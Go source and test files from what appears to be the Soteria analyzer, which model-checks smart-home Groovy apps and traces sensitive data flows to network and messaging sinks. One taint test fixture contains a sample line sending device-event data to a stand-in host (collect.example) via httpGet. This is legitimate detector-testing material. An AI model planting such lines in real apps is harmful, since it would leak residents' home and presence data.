							origins = []origin{{Class: DeviceState, Var: l.Var}}
						}
					case pathcond.StateVariable:
						if rv == nil {
							rv = newResolver(app)
						}
						field := strings.TrimPrefix(l.Var, "state.")
						for _, o := range rv.resolve(field, map[string]bool{}) {
							o.Via = l.Var
							origins = append(origins, o)
						}
					}
					for _, o := range origins {
						p, ok := specFor(o.Class, spec.Channel)
						if !ok || !match(p.ID) {
							continue
						}
						flows = append(flows, buildFlow(p, app, r, s, o))
					}
				}
			}
		}
	}
	return flows
}

// buildFlow assembles the flow record with its witness path.
func buildFlow(p Spec, app *ir.App, r *symexec.Result, s symexec.SinkCall, o origin) Flow {
	cond := "true"
	if !s.Guard.IsTrue() {
		cond = s.Guard.Canonical()
	}
	f := Flow{
		ID:          p.ID,
		App:         app.Name,
		Handler:     r.Entry.Handler.Name,
		Event:       r.Entry.Sub.EventLabel(),
		Source:      o.Var,
		SourceClass: string(o.Class),
		Via:         o.Via,
		Sink:        s.Name,
		Channel:     string(p.Channel),
		Line:        s.Pos.Line,
		Condition:   cond,
	}
	read := fmt.Sprintf("read %s [%s]", f.Source, f.SourceClass)
	if f.Via != "" {
		read = fmt.Sprintf("read %s [%s] via %s", f.Source, f.SourceClass, f.Via)
	}
	var args []string
	for _, a := range s.Args {
		args = append(args, a.Text)
	}
	f.Witness = []string{
		fmt.Sprintf("event %s triggers %s()", f.Event, f.Handler),
		read,
		fmt.Sprintf("%s(%s) at line %d transmits it over the %s channel",
			f.Sink, strings.Join(args, ", "), f.Line, f.Channel),
		fmt.Sprintf("path condition: %s (satisfiable)", f.Condition),
	}
	return f
}

// SortFlows orders flows deterministically: catalogue ID, then app,
// source line, source, via, sink, and condition — so reports are
// byte-identical however the analysis was scheduled.
func SortFlows(flows []Flow) {
	sort.SliceStable(flows, func(i, j int) bool {
		a, b := flows[i], flows[j]
		if ra, rb := properties.IDRank(a.ID), properties.IDRank(b.ID); ra != rb {
			return ra < rb
		}
		if a.App != b.App {
			return a.App < b.App
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Source != b.Source {
			return a.Source < b.Source
		}
		if a.Via != b.Via {
			return a.Via < b.Via
		}
		if a.Sink != b.Sink {
			return a.Sink < b.Sink
		}
		return a.Condition < b.Condition
	})
}

// dedupeFlows drops adjacent duplicates of a sorted flow list (the
// same flow can surface from several entry points or labels).
func dedupeFlows(flows []Flow) []Flow {
	var out []Flow
	for _, f := range flows {
		if len(out) > 0 && flowKey(out[len(out)-1]) == flowKey(f) {
			continue
		}
		out = append(out, f)
	}
	return out
}

func flowKey(f Flow) string {
	return strings.Join([]string{f.ID, f.App, f.Handler, f.Event, f.Source,
		f.Via, f.Sink, fmt.Sprint(f.Line), f.Condition}, "\x00")
}

// Violations renders flows as catalogue violations (Kind Taint), one
// per flow, with the witness as the counterexample.
func Violations(flows []Flow) []properties.Violation {
	var out []properties.Violation
	for _, f := range flows {
		desc := ""
		for _, s := range catalogue {
			if s.ID == f.ID {
				desc = s.Description
				break
			}
		}
		out = append(out, properties.Violation{
			ID:             f.ID,
			Kind:           properties.Taint,
			Description:    desc,
			Detail:         f.Detail(),
			Apps:           []string{f.App},
			Counterexample: strings.Join(f.Witness, "\n"),
		})
	}
	return out
}

// ---------------------------------------------------------------------------
// Persistent-state resolution (Algorithm 1 over state fields)

// resolver chases persistent state fields back to sensitive sources:
// a mark like "state.lastSeen" at a sink is resolved by classifying
// every assignment to the field anywhere in the app, using
// internal/dataflow's def-use chains (with infeasible-path pruning)
// for identifier-valued right-hand sides.
type resolver struct {
	app  *ir.App
	icfg *cfg.ICFG
	df   *dataflow.Analysis
	memo map[string][]origin
}

func newResolver(app *ir.App) *resolver {
	icfg := cfg.Build(app)
	return &resolver{
		app:  app,
		icfg: icfg,
		df:   dataflow.New(app, icfg),
		memo: map[string][]origin{},
	}
}

// resolve returns the sensitive origins of state field `field`.
// visiting guards field→field assignment cycles.
func (r *resolver) resolve(field string, visiting map[string]bool) []origin {
	if got, ok := r.memo[field]; ok {
		return got
	}
	if visiting[field] {
		return nil
	}
	visiting[field] = true
	defer delete(visiting, field)
	var out []origin
	for _, name := range r.methodNames() {
		g, ok := r.icfg.Graph(name)
		if !ok {
			continue
		}
		for _, n := range g.Nodes {
			as, isAssign := n.Stmt.(*groovy.AssignStmt)
			if !isAssign || as.Op != groovy.ASSIGN {
				continue
			}
			if f, ok := ir.StateFieldRef(as.LHS); !ok || f != field {
				continue
			}
			out = append(out, r.classifyExpr(name, n, as.RHS, visiting)...)
		}
	}
	out = dedupeOrigins(out)
	if len(visiting) == 1 {
		r.memo[field] = out
	}
	return out
}

func (r *resolver) methodNames() []string {
	names := make([]string, 0, len(r.app.File.Methods))
	for _, m := range r.app.File.Methods {
		names = append(names, m.Name)
	}
	sort.Strings(names)
	return names
}

// classifyExpr resolves a right-hand side into sensitive origins. The
// structural cases (interpolation, concatenation, ternaries, event
// fields, state chains) are handled here; everything else — plain
// identifiers, device reads, conversion wrappers, app-method returns —
// goes through dataflow.NumericSources' backward def-use walk.
func (r *resolver) classifyExpr(method string, n *cfg.Node, e groovy.Expr, visiting map[string]bool) []origin {
	switch x := e.(type) {
	case *groovy.StringLit, *groovy.NumberLit, *groovy.BoolLit, *groovy.NullLit:
		return nil
	case *groovy.GStringLit:
		var out []origin
		for _, part := range x.Parts {
			if part.IsExpr {
				out = append(out, r.classifyExpr(method, n, part.Expr, visiting)...)
			}
		}
		return out
	case *groovy.BinaryExpr:
		return append(r.classifyExpr(method, n, x.L, visiting),
			r.classifyExpr(method, n, x.R, visiting)...)
	case *groovy.TernaryExpr:
		return append(r.classifyExpr(method, n, x.Then, visiting),
			r.classifyExpr(method, n, x.Else, visiting)...)
	case *groovy.ElvisExpr:
		return append(r.classifyExpr(method, n, x.Value, visiting),
			r.classifyExpr(method, n, x.Default, visiting)...)
	case *groovy.ListLit:
		var out []origin
		for _, el := range x.Elems {
			out = append(out, r.classifyExpr(method, n, el, visiting)...)
		}
		return out
	case *groovy.MapLit:
		var out []origin
		for _, en := range x.Entries {
			out = append(out, r.classifyExpr(method, n, en.Value, visiting)...)
		}
		return out
	case *groovy.PropExpr:
		if f, ok := ir.StateFieldRef(x); ok {
			return r.resolve(f, visiting)
		}
		if id, ok := x.Recv.(*groovy.Ident); ok {
			if id.Name == "location" && x.Name == "mode" {
				return []origin{{Class: LocationMode, Var: "location.mode"}}
			}
			if r.isEventParam(method, id.Name) {
				return []origin{{Class: DeviceState, Var: "evt." + x.Name}}
			}
		}
	}
	var out []origin
	for _, s := range r.df.NumericSources(method, n, e).Sources {
		switch s.Kind {
		case dataflow.DeviceRead:
			v := s.Handle + "." + s.Attr
			if v == "location.mode" {
				out = append(out, origin{Class: LocationMode, Var: v})
			} else {
				out = append(out, origin{Class: DeviceState, Var: v})
			}
		case dataflow.UserInput:
			out = append(out, origin{Class: UserInput, Var: s.Handle})
		case dataflow.StateVar:
			out = append(out, r.resolve(s.Field, visiting)...)
		}
	}
	return out
}

// isEventParam reports whether ident names the event parameter of
// method: the conventional "evt", or the first parameter when the
// method is a subscription handler.
func (r *resolver) isEventParam(method, ident string) bool {
	if ident == "evt" {
		return true
	}
	m := r.app.File.MethodByName(method)
	if m == nil || len(m.Params) == 0 || m.Params[0] != ident {
		return false
	}
	for _, sub := range r.app.Subscriptions {
		if sub.Handler == method {
			return true
		}
	}
	return false
}

func dedupeOrigins(os []origin) []origin {
	sort.Slice(os, func(i, j int) bool {
		if os[i].Class != os[j].Class {
			return os[i].Class < os[j].Class
		}
		return os[i].Var < os[j].Var
	})
	var out []origin
	for _, o := range os {
		if len(out) > 0 && out[len(out)-1] == o {
			continue
		}
		out = append(out, o)
	}
	return out
}
