package taint_test

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
)

// resolverApp builds a two-handler app: the writer handler stores an
// expression in persistent state, the reader handler transmits the
// field. Symbolic execution of the reader sees only an opaque
// state-variable mark, so these flows exercise the resolver's
// app-wide assignment chase.
func resolverApp(writes, sink string) string {
	return `
definition(name: "hop", namespace: "t", author: "t")
preferences {
    section("Devices") {
        input "kids", "capability.presenceSensor"
        input "note", "text", title: "Note"
    }
}
def installed() {
    subscribe(kids, "presence", w)
    subscribe(kids, "presence.not present", r)
}
def w(evt) {
` + writes + `
}
def r(evt) {
    ` + sink + `
}
`
}

// TestResolverCrossHandlerState covers the persistent-state resolution
// path: a field written by one handler and transmitted by another must
// resolve back to its sensitive origin, through field-to-field chains,
// ternaries, and self-referential cycles.
func TestResolverCrossHandlerState(t *testing.T) {
	cases := []struct {
		name   string
		writes string
		sink   string
		wantID string
		// wantVia and wantSource pin the resolved flow; wantNone
		// asserts silence.
		wantVia    string
		wantSource string
		wantNone   bool
	}{
		{
			name:       "direct cross-handler hop",
			writes:     `    state.lastSeen = "k: ${evt.displayName}"`,
			sink:       `sendSms("555-0100", "last: ${state.lastSeen}")`,
			wantID:     "T.2",
			wantVia:    "state.lastSeen",
			wantSource: "evt.displayName",
		},
		{
			name: "field-to-field chain resolves transitively",
			writes: `    state.raw = "v: ${evt.value}"
    state.out = state.raw`,
			sink:       `httpGet("http://collect.example/?d=${state.out}")`,
			wantID:     "T.1",
			wantVia:    "state.out",
			wantSource: "evt.value",
		},
		{
			name:       "ternary branches both classified",
			writes:     `    state.memo = evt.value == "present" ? "home ${note}" : "away"`,
			sink:       `sendPush("memo: ${state.memo}")`,
			wantID:     "T.6",
			wantVia:    "state.memo",
			wantSource: "note",
		},
		{
			name:     "self-referential append terminates and stays clean",
			writes:   `    state.log = "${state.log}."`,
			sink:     `sendSms("555-0100", "log: ${state.log}")`,
			wantNone: true,
		},
		{
			name:     "literal-only field is not sensitive",
			writes:   `    state.greeting = "hello"`,
			sink:     `sendSms("555-0100", "g: ${state.greeting}")`,
			wantNone: true,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			an, err := core.AnalyzeSources(core.Options{Taint: true},
				core.NamedSource{Name: "hop", Source: resolverApp(tc.writes, tc.sink)})
			if err != nil {
				t.Fatal(err)
			}
			if tc.wantNone {
				if len(an.TaintFlows) != 0 {
					t.Fatalf("flows = %+v, want none", an.TaintFlows)
				}
				return
			}
			if len(an.TaintFlows) != 1 {
				t.Fatalf("flows = %+v, want exactly one", an.TaintFlows)
			}
			f := an.TaintFlows[0]
			if f.ID != tc.wantID || f.Via != tc.wantVia || f.Source != tc.wantSource {
				t.Errorf("flow = %s %s via %q source %q, want %s via %q source %q",
					f.ID, f.Sink, f.Via, f.Source, tc.wantID, tc.wantVia, tc.wantSource)
			}
			joined := strings.Join(f.Witness, "\n")
			if !strings.Contains(joined, tc.wantVia) {
				t.Errorf("witness omits the state hop %q:\n%s", tc.wantVia, joined)
			}
		})
	}
}
