package core

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/paperapps"
)

func TestAnalyzeSourcesSingle(t *testing.T) {
	a, err := AnalyzeSources(DefaultOptions(),
		NamedSource{Name: "smoke-alarm", Source: paperapps.SmokeAlarm})
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Violations) != 0 {
		t.Errorf("violations = %v", a.Violations)
	}
	if len(a.Model.States) != 96 {
		t.Errorf("states = %d", len(a.Model.States))
	}
	if a.Kripke == nil || a.Kripke.N != 96 {
		t.Error("kripke missing or wrong size")
	}
	if a.Timings.Model <= 0 || a.Timings.Checking <= 0 {
		t.Errorf("timings = %+v", a.Timings)
	}
}

func TestAnalyzeSourcesParseError(t *testing.T) {
	_, err := AnalyzeSources(DefaultOptions(),
		NamedSource{Name: "bad", Source: "def h() { if ( }"})
	if err == nil {
		t.Error("expected error")
	}
}

func TestAnalyzeAppsEmpty(t *testing.T) {
	if _, err := AnalyzeApps(DefaultOptions()); err == nil {
		t.Error("expected error for zero apps")
	}
}

func TestOptionsGeneralOnly(t *testing.T) {
	a, err := AnalyzeSources(Options{General: true},
		NamedSource{Name: "buggy", Source: paperapps.BuggySmokeAlarm})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range a.Violations {
		if strings.HasPrefix(v.ID, "P.") {
			t.Errorf("app-specific violation with General-only options: %v", v)
		}
	}
	ids := a.ViolatedIDs()
	found := false
	for _, id := range ids {
		if id == "S.1" {
			found = true
		}
	}
	if !found {
		t.Errorf("S.1 missing: %v", ids)
	}
}

func TestPropertyIDFilter(t *testing.T) {
	a, err := AnalyzeSources(Options{AppSpecific: true, PropertyIDs: []string{"P.10"}},
		NamedSource{Name: "buggy", Source: paperapps.BuggySmokeAlarm})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range a.Violations {
		if v.ID != "P.10" {
			t.Errorf("unexpected %v", v)
		}
	}
	if len(a.Violations) == 0 {
		t.Error("P.10 should be flagged")
	}
}

func TestCheckFormula(t *testing.T) {
	a, err := AnalyzeSources(DefaultOptions(),
		NamedSource{Name: "water-leak", Source: paperapps.WaterLeakDetector})
	if err != nil {
		t.Fatal(err)
	}
	holds, cex, err := a.CheckFormula(`AG ("ev:waterSensor.water.wet" -> "valve.valve=closed")`)
	if err != nil || !holds || cex != "" {
		t.Errorf("holds=%t cex=%q err=%v", holds, cex, err)
	}
	holds, cex, err = a.CheckFormula(`AG "valve.valve=closed"`)
	if err != nil || holds {
		t.Errorf("trivially-false formula: holds=%t err=%v", holds, err)
	}
	if cex == "" {
		t.Error("expected counterexample")
	}
	if _, _, err := a.CheckFormula("(("); err == nil {
		t.Error("expected parse error")
	}
}

func TestOutputs(t *testing.T) {
	a, err := AnalyzeSources(DefaultOptions(),
		NamedSource{Name: "water-leak", Source: paperapps.WaterLeakDetector})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(a.DOT(), "digraph") {
		t.Error("DOT malformed")
	}
	smvOut := a.SMV()
	if !strings.Contains(smvOut, "MODULE main") || !strings.Contains(smvOut, "SPEC") {
		t.Errorf("SMV output should include SPECs for applicable properties:\n%s", smvOut[:200])
	}
}

func TestMultiAppEnvironment(t *testing.T) {
	a, err := AnalyzeSources(DefaultOptions(),
		NamedSource{Name: "smoke-alarm", Source: paperapps.SmokeAlarm},
		NamedSource{Name: "water-leak", Source: paperapps.WaterLeakDetector})
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Apps) != 2 {
		t.Errorf("apps = %d", len(a.Apps))
	}
	if len(a.Model.States) != 192 {
		t.Errorf("states = %d", len(a.Model.States))
	}
}

func TestViolatedIDsDeduplicated(t *testing.T) {
	a, err := AnalyzeSources(DefaultOptions(),
		NamedSource{Name: "buggy", Source: paperapps.BuggySmokeAlarm})
	if err != nil {
		t.Fatal(err)
	}
	ids := a.ViolatedIDs()
	seen := map[string]bool{}
	for _, id := range ids {
		if seen[id] {
			t.Errorf("duplicate %s", id)
		}
		seen[id] = true
	}
}
