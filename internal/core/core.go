// Package core is the Soteria analyzer pipeline (paper Fig. 3/10):
// source → IR → state model → Kripke structure → property checking.
// It ties the substrates together for single apps and multi-app
// environments and records per-stage timings for the §6.3
// micro-benchmarks.
package core

import (
	"fmt"
	"time"

	"github.com/soteria-analysis/soteria/internal/bmc"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/ltl"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
	"github.com/soteria-analysis/soteria/internal/properties"
	"github.com/soteria-analysis/soteria/internal/smv"
	"github.com/soteria-analysis/soteria/internal/statemodel"
	"github.com/soteria-analysis/soteria/internal/symbolic"
)

// Options selects which property families to verify.
type Options struct {
	// General enables the S.1–S.5 checks and nondeterminism detection.
	General bool
	// AppSpecific enables the P.1–P.30 catalogue.
	AppSpecific bool
	// PropertyIDs restricts the app-specific catalogue to the listed
	// IDs (empty = all).
	PropertyIDs []string
}

// DefaultOptions checks everything.
func DefaultOptions() Options {
	return Options{General: true, AppSpecific: true}
}

// Timings records per-stage durations (§6.3).
type Timings struct {
	IR       time.Duration // parsing + IR extraction
	Model    time.Duration // symbolic execution + state model
	Checking time.Duration // property verification
}

// Analysis is the result of analyzing one app or an environment.
type Analysis struct {
	Apps       []*ir.App
	Model      *statemodel.Model
	Kripke     *kripke.Structure
	Violations []properties.Violation
	Timings    Timings
}

// NamedSource pairs an app name with its Groovy source.
type NamedSource struct {
	Name   string
	Source string
}

// AnalyzeSources parses, models, and checks a set of apps as one
// environment (a single app is the one-element case).
func AnalyzeSources(opts Options, sources ...NamedSource) (*Analysis, error) {
	var apps []*ir.App
	t0 := time.Now()
	for _, s := range sources {
		app, err := ir.BuildSource(s.Name, s.Source)
		if err != nil {
			return nil, fmt.Errorf("parsing %s: %w", s.Name, err)
		}
		apps = append(apps, app)
	}
	a, err := AnalyzeApps(opts, apps...)
	if err != nil {
		return nil, err
	}
	a.Timings.IR = time.Since(t0) - a.Timings.Model - a.Timings.Checking
	return a, nil
}

// AnalyzeApps models and checks already-extracted apps.
func AnalyzeApps(opts Options, apps ...*ir.App) (*Analysis, error) {
	if len(apps) == 0 {
		return nil, fmt.Errorf("core: no apps to analyze")
	}
	a := &Analysis{Apps: apps}

	t0 := time.Now()
	m, err := statemodel.Build(apps...)
	if err != nil {
		return nil, fmt.Errorf("state model: %w", err)
	}
	a.Model = m
	a.Kripke = kripke.FromModel(m)
	a.Timings.Model = time.Since(t0)

	t1 := time.Now()
	if opts.General {
		a.Violations = append(a.Violations, properties.CheckGeneral(m)...)
	}
	if opts.AppSpecific {
		vs := properties.CheckAppSpecific(m, a.Kripke)
		if len(opts.PropertyIDs) > 0 {
			want := map[string]bool{}
			for _, id := range opts.PropertyIDs {
				want[id] = true
			}
			var filtered []properties.Violation
			for _, v := range vs {
				if want[v.ID] {
					filtered = append(filtered, v)
				}
			}
			vs = filtered
		}
		a.Violations = append(a.Violations, vs...)
	}
	a.Timings.Checking = time.Since(t1)
	return a, nil
}

// Engine selects a model-checking backend.
type Engine string

// Available engines.
const (
	// Explicit is the explicit-state fixpoint checker (default; the
	// only engine producing counterexamples).
	Explicit Engine = "explicit"
	// BDD is the symbolic engine over binary decision diagrams.
	BDD Engine = "bdd"
	// BMC is SAT-based bounded model checking; it handles AG formulas
	// with propositional bodies and reports a counterexample path when
	// one exists within the bound.
	BMC Engine = "bmc"
)

// CheckFormula verifies a custom CTL formula against the analysis
// model with the explicit-state engine; it returns whether the
// property holds and a rendered counterexample when it does not.
func (a *Analysis) CheckFormula(formula string) (bool, string, error) {
	return a.CheckFormulaEngine(formula, Explicit)
}

// CheckFormulaEngine is CheckFormula with an explicit backend choice
// (the paper's NuSMV combined BDD- and SAT-based engines; §5).
func (a *Analysis) CheckFormulaEngine(formula string, engine Engine) (bool, string, error) {
	f, err := ctl.Parse(formula)
	if err != nil {
		return false, "", err
	}
	switch engine {
	case Explicit, "":
		r := modelcheck.Check(a.Kripke, f)
		if r.Holds {
			return true, "", nil
		}
		cex := ""
		if len(r.Counterexample) > 0 {
			cex = a.Kripke.RenderPath(r.Counterexample)
		}
		return false, cex, nil
	case BDD:
		r := symbolic.New(a.Kripke).Check(f)
		return r.Holds, "", nil
	case BMC:
		bound := a.Kripke.N
		if bound > 64 {
			bound = 64
		}
		r, handled := bmc.CheckAG(a.Kripke, f, bound)
		if !handled {
			return false, "", fmt.Errorf("core: BMC handles only AG formulas with propositional bodies")
		}
		if !r.Violated {
			return true, "", nil
		}
		return false, a.Kripke.RenderPath(r.Path), nil
	}
	return false, "", fmt.Errorf("core: unknown engine %q", engine)
}

// CheckLTL verifies an LTL property (interpreted over all paths from
// all initial states — the second temporal logic the paper names in
// §2). When the property fails, the counterexample is a rendered
// lasso: a finite stem followed by a loop.
func (a *Analysis) CheckLTL(formula string) (bool, string, error) {
	f, err := ltl.Parse(formula)
	if err != nil {
		return false, "", err
	}
	r := ltl.Check(a.Kripke, f)
	if r.Holds {
		return true, "", nil
	}
	cex := a.Kripke.RenderPath(r.Counterexample)
	if r.Loop >= 0 && r.Loop < len(r.Counterexample) {
		cex += fmt.Sprintf("\n  --(loops back to step %d)--> %s",
			r.Loop, a.Kripke.Names[r.Counterexample[r.Loop]])
	}
	return false, cex, nil
}

// WitnessFormula produces a rendered trace demonstrating an
// existential CTL formula (EX/EF/EU/EG) from some state of the model —
// evidence for "can the environment ever reach ...?" questions.
// ok=false when the formula is unsatisfiable or not existential.
func (a *Analysis) WitnessFormula(formula string) (trace string, ok bool, err error) {
	f, err := ctl.Parse(formula)
	if err != nil {
		return "", false, err
	}
	for _, s := range a.Kripke.Init {
		if path, _, found := modelcheck.Witness(a.Kripke, f, s); found {
			return a.Kripke.RenderPath(path), true, nil
		}
	}
	return "", false, nil
}

// DOT renders the state model in Graphviz format.
func (a *Analysis) DOT() string { return a.Model.Dot() }

// SMV renders the state model in NuSMV input format, with the full
// catalogue's applicable formulas as SPECs.
func (a *Analysis) SMV() string {
	var specs []ctl.Formula
	for _, prop := range properties.Catalogue() {
		for _, variant := range prop.Variants {
			if !variant.Applicable(a.Model) {
				continue
			}
			if f, ok := variant.Build(a.Model); ok {
				specs = append(specs, f)
			}
		}
	}
	return smv.Emit(a.Model, specs)
}

// ViolatedIDs returns the distinct violated property IDs in report
// order.
func (a *Analysis) ViolatedIDs() []string {
	seen := map[string]bool{}
	var out []string
	for _, v := range a.Violations {
		if !seen[v.ID] {
			seen[v.ID] = true
			out = append(out, v.ID)
		}
	}
	return out
}
