// Package core is the Soteria analyzer pipeline (paper Fig. 3/10):
// source → IR → state model → Kripke structure → property checking.
// It ties the substrates together for single apps and multi-app
// environments and records per-stage timings for the §6.3
// micro-benchmarks.
package core

import (
	"context"
	"fmt"
	"sort"
	"time"

	"github.com/soteria-analysis/soteria/internal/bmc"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/ltl"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
	"github.com/soteria-analysis/soteria/internal/obs"
	"github.com/soteria-analysis/soteria/internal/properties"
	"github.com/soteria-analysis/soteria/internal/smv"
	"github.com/soteria-analysis/soteria/internal/statemodel"
	"github.com/soteria-analysis/soteria/internal/symbolic"
	"github.com/soteria-analysis/soteria/internal/taint"
)

// Options selects which property families to verify.
type Options struct {
	// General enables the S.1–S.5 checks and nondeterminism detection.
	General bool
	// AppSpecific enables the P.1–P.30 catalogue.
	AppSpecific bool
	// Taint enables the T.1–T.6 sensitive-data-flow checks
	// (internal/taint): sources (device state, location mode, user
	// input) flowing to sinks (network calls, messages).
	Taint bool
	// PropertyIDs restricts the app-specific catalogue to the listed
	// IDs (empty = all). The filter is applied before dispatch: only
	// the requested properties are built and checked, and Checked
	// reflects the filter. Taint IDs (T.n, or the "T.*" wildcard)
	// restrict the taint family the same way.
	PropertyIDs []string
	// Parallel is the number of concurrent property-check workers
	// (values below 2 check sequentially). Workers share the Kripke
	// structure read-only and construct per-worker engine state; the
	// resource budget stays global across workers, and reports are
	// merged in catalogue order, so results are identical to a
	// sequential run.
	Parallel int
	// Limits bounds the run's resources; the zero value is unlimited.
	Limits guard.Limits
}

// DefaultOptions checks everything.
func DefaultOptions() Options {
	return Options{General: true, AppSpecific: true, Taint: true}
}

// Timings records per-stage durations (§6.3).
type Timings struct {
	IR       time.Duration // parsing + IR extraction
	Model    time.Duration // symbolic execution + state model
	Checking time.Duration // property verification
}

// Analysis is the result of analyzing one app or an environment.
type Analysis struct {
	Apps       []*ir.App
	Model      *statemodel.Model
	Kripke     *kripke.Structure
	Violations []properties.Violation
	Timings    Timings
	// Incomplete is true when part of the analysis was skipped —
	// resource budget exhausted, cancellation, or a contained internal
	// fault. The populated fields are still valid.
	Incomplete bool
	// Diagnostics describe each contained failure.
	Diagnostics []guard.Diagnostic
	// Checked lists the app-specific property IDs that were fully
	// decided, in catalogue order.
	Checked []string
	// TaintFlows are the sensitive-data-flow findings (T.1–T.6),
	// sorted and deduplicated; each also appears as a Violation.
	TaintFlows []taint.Flow
	// lim reproduces per-resource limits for post-hoc formula checks.
	lim guard.Limits
}

// markIncomplete records a contained failure.
func (a *Analysis) markIncomplete(d guard.Diagnostic) {
	a.Incomplete = true
	a.Diagnostics = append(a.Diagnostics, d)
}

// recoverable reports whether a stage error should degrade to a
// partial result (budget exhaustion, cancellation, contained panic)
// rather than abort the analysis.
func recoverable(err error) bool {
	return guard.IsBudget(err) || guard.IsPanic(err)
}

// NamedSource pairs an app name with its Groovy source.
type NamedSource struct {
	Name   string
	Source string
}

// AnalyzeSources parses, models, and checks a set of apps as one
// environment (a single app is the one-element case).
func AnalyzeSources(opts Options, sources ...NamedSource) (*Analysis, error) {
	return AnalyzeSourcesContext(context.Background(), opts, sources...)
}

// AnalyzeSourcesContext is AnalyzeSources under a context: the run is
// aborted cooperatively when ctx is canceled or its deadline passes,
// yielding a partial result with Incomplete set.
func AnalyzeSourcesContext(ctx context.Context, opts Options, sources ...NamedSource) (*Analysis, error) {
	var apps []*ir.App
	t0 := time.Now()
	irsp := obs.Start(ctx, "ir")
	for _, s := range sources {
		app, err := ir.BuildSource(s.Name, s.Source)
		if err != nil {
			irsp.End()
			return nil, fmt.Errorf("parsing %s: %w", s.Name, err)
		}
		apps = append(apps, app)
	}
	irsp.SetInt("apps", int64(len(apps)))
	irsp.End()
	a, err := AnalyzeAppsContext(ctx, opts, apps...)
	if err != nil {
		return nil, err
	}
	a.Timings.IR = time.Since(t0) - a.Timings.Model - a.Timings.Checking
	return a, nil
}

// AnalyzeApps models and checks already-extracted apps.
func AnalyzeApps(opts Options, apps ...*ir.App) (*Analysis, error) {
	return AnalyzeAppsContext(context.Background(), opts, apps...)
}

// AnalyzeAppsContext is AnalyzeApps under a context and the resource
// limits of opts. Each pipeline stage runs inside a recovery boundary:
// budget exhaustion, cancellation, and internal panics degrade to a
// partial Analysis with Incomplete set and a Diagnostic per contained
// failure — err is reserved for hard input errors (unparseable apps,
// infeasible models).
func AnalyzeAppsContext(ctx context.Context, opts Options, apps ...*ir.App) (*Analysis, error) {
	if len(apps) == 0 {
		return nil, fmt.Errorf("core: no apps to analyze")
	}
	a := &Analysis{Apps: apps, lim: opts.Limits}
	b := guard.New(ctx, opts.Limits)

	err := guard.Run("core.analyze", func() error {
		faultinject.Hit(faultinject.SiteAnalyze)

		t0 := time.Now()
		msp := obs.Start(ctx, "statemodel")
		merr := guard.Run("statemodel", func() error {
			faultinject.Hit(faultinject.SiteStateModel)
			m, err := statemodel.BuildBudget(b, statemodel.Options{}, apps...)
			if err != nil {
				return fmt.Errorf("state model: %w", err)
			}
			a.Model = m
			return nil
		})
		if a.Model != nil {
			msp.SetInt("states", int64(len(a.Model.States)))
		}
		msp.End()
		if merr == nil && a.Model != nil {
			ksp := obs.Start(ctx, "kripke")
			merr = guard.Run("kripke", func() error {
				faultinject.Hit(faultinject.SiteKripke)
				a.Kripke = kripke.FromModel(a.Model)
				return nil
			})
			ksp.End()
		}
		a.Timings.Model = time.Since(t0)
		if merr != nil {
			if recoverable(merr) {
				a.markIncomplete(guard.Diagnose("statemodel", "", "", merr))
				return nil
			}
			return merr
		}

		t1 := time.Now()
		defer func() { a.Timings.Checking = time.Since(t1) }()
		if opts.General {
			gsp := obs.Start(ctx, "check.general")
			gerr := guard.Run("properties.general", func() error {
				faultinject.Hit(faultinject.SiteGeneral)
				a.Violations = append(a.Violations, properties.CheckGeneralBudget(a.Model, b)...)
				return nil
			})
			gsp.End()
			if gerr != nil {
				if !recoverable(gerr) {
					return gerr
				}
				a.markIncomplete(guard.Diagnose("properties.general", "", "", gerr))
			}
		}
		if opts.AppSpecific {
			// The property filter is applied before dispatch: only the
			// requested properties are built and checked, and Checked
			// reflects the filter. One subformula memo spans the whole
			// sweep: the catalogue's formulas share subterms, and the
			// memo lets the explicit engine compute each distinct
			// subformula once per analysis (it is concurrency-safe, so
			// parallel workers share it too).
			memo := modelcheck.NewMemo()
			// The sweep span is passed to checkProperty directly (not via
			// ctx) so parallel workers attach property spans to it without
			// racing on the context's current-span slot.
			csp := obs.Start(ctx, "check")
			rep := properties.CheckAppSpecificOpts(a.Model, func(propID string, f ctl.Formula) properties.PropertyOutcome {
				return checkProperty(a.Kripke, b, propID, f, memo, csp)
			}, properties.SweepOptions{IDs: opts.PropertyIDs, Parallel: opts.Parallel})
			ms := memo.Stats()
			csp.SetInt("memo_lookups", int64(ms.Lookups))
			csp.SetInt("memo_hits", int64(ms.Hits))
			csp.SetInt("memo_subformulas", int64(ms.Entries))
			csp.End()
			a.Checked = rep.Checked
			a.Diagnostics = append(a.Diagnostics, rep.Diagnostics...)
			if rep.Incomplete {
				a.Incomplete = true
			}
			a.Violations = append(a.Violations, rep.Violations...)
		}
		if opts.Taint && a.Model != nil {
			// The taint family is evaluated over the symbolic-execution
			// results the model already retains — no re-execution. It
			// runs in the coordinating goroutine and sorts its flows, so
			// parallel and sequential runs report identical bytes.
			tsp := obs.Start(ctx, "check.taint")
			terr := guard.Run("properties.taint", func() error {
				faultinject.Hit(faultinject.SiteTaint)
				a.TaintFlows = taint.FromModel(a.Model, opts.PropertyIDs)
				a.Violations = append(a.Violations, taint.Violations(a.TaintFlows)...)
				return nil
			})
			tsp.SetInt("flows", int64(len(a.TaintFlows)))
			tsp.End()
			if terr != nil {
				if !recoverable(terr) {
					return terr
				}
				a.markIncomplete(guard.Diagnose("properties.taint", "", "", terr))
			}
		}
		return nil
	})
	// Reports are ordered by catalogue position (S.1–S.5, P.1–P.30,
	// then ND) rather than discovery order, so equal inputs render
	// byte-identical output however the checks were scheduled.
